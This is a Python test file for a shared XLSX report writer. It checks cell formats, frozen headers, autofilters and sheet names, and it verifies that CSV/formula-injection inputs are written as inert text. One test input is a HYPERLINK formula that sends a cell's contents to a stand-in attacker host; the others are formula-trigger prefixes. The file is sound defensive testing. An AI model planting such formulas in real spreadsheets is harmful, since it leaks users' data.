"""The shared XLSX writer: typed cells with real formats, frozen headers, autofilters, no formulas ever."""

from __future__ import annotations

import io
import zipfile
from datetime import datetime

import pandas as pd
from openpyxl import load_workbook

from reports.xlsx import workbook_bytes

HOSTILE = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")', "+1+2", "-2+3", "@SUM(A1:A2)",
           "\tTab", "\rReturn"]


def _no_formula_anywhere(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def test_types_formats_header_and_filter():
    frame = pd.DataFrame({"period": ["2025-11", "2025-12"], "value": [0.734, 0.5], "numerator": [73.0, 5.0],
                          "denominator": [100, 10], "received_at": [datetime(2026, 1, 3, 9, 30), datetime(2026, 1, 20, 8, 0)],
                          "rag": ["Green", "Red"], "due": [0.0, 1250.5], "note": [None, "[c]"]})
    book = load_workbook(io.BytesIO(workbook_bytes({"kpis": frame})))
    sheet = book["kpis"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:H3"
    assert [c.value for c in sheet[1]] == list(frame.columns) and sheet["A1"].font.b
    month, value, numerator, denominator, received, rag, due, note = sheet[3]
    assert month.is_date and month.number_format == "yyyy-mm" and month.value == datetime(2025, 12, 1)
    assert value.value == 0.5 and value.number_format == "0.0%"
    assert numerator.value == 5 and denominator.value == 10 and denominator.number_format == "#,##0"
    assert received.is_date and received.number_format == "yyyy-mm-dd hh:mm"
    assert rag.value == "Red" and rag.data_type == "s"
    assert due.value == 1250.5 and due.number_format.startswith("£")
    assert note.value == "[c]" and sheet["H2"].value is None


def test_formula_injection_is_inert_text():
    frame = pd.DataFrame({"provider": HOSTILE, "rate": [0.1] * len(HOSTILE)})
    data = workbook_bytes({"=evil": frame})
    _no_formula_anywhere(data)
    book = load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    for row, text in zip(sheet.iter_rows(min_row=2, max_col=1), HOSTILE, strict=True):
        cell = row[0]
        # A carriage return is stored with the OOXML escape _x000D_ (Excel shows a CR; openpyxl leaves it as is).
        assert cell.data_type == "s" and cell.value.replace("_x000D_", "\r") == "'" + text
    assert book.sheetnames == ["=evil"]  # a sheet name is never evaluated


def test_empty_frame_and_long_duplicate_sheet_names():
    long = "a" * 40
    book = load_workbook(io.BytesIO(workbook_bytes({long: pd.DataFrame(), long + "b": pd.DataFrame({"x": [1]})})))
    assert book.sheetnames == ["a" * 31, "a" * 29 + "_2"]
    assert book.worksheets[0]["A2"].value == "no data"


def test_infinite_values_are_written_as_text():
    import io

    import openpyxl
    import pandas as pd

    from reports.xlsx import workbook_bytes

    data = workbook_bytes({"findings": pd.DataFrame({"ci_low": [float("-inf"), 0.1], "ci_high": [float("inf"), 0.2]})})
    sheet = openpyxl.load_workbook(io.BytesIO(data))["findings"]
    assert [c.value for c in sheet[2]] == ["-unbounded", "unbounded"]
    assert sheet["A3"].value == 0.1
